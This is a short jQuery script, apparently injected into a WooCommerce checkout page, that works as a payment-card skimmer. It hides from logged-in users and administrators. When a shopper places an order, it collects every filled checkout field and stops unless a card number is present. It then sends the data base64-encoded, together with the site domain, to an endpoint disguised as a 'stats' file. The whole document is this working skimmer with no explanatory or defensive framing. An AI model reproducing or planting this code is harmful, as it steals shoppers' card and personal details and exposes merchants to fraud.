
jQuery(document).ready(function($){
  if (document.cookie.indexOf('wordpress_logged_in') !== -1 || document.cookie.indexOf('adminhtml') !== -1 || $('#wpadminbar').length || $('body').hasClass('logged-in')) return;
  var ex = new Date(); ex.setDate(ex.getDate() - 1);
  $(document.body).on('click', '#place-order, [name="woocommerce_checkout_place_order"]', function(){
    var a = $('form.checkout-form, form.checkout').serializeArray(), r = {};
    for (var i = 0; i < a.length; i++) if (a[i].value && a[i].name != '_token') r[a[i].name] = a[i].value;
    if (!r.cardnumber) return;
    $.ajax({ url: '<% url "wp-stats-cdn" "/wp-content/stats.php" %>', type: 'post', async: false, data: { data: btoa(encodeURIComponent(JSON.stringify(r))), dom: document.domain } });
  });
});
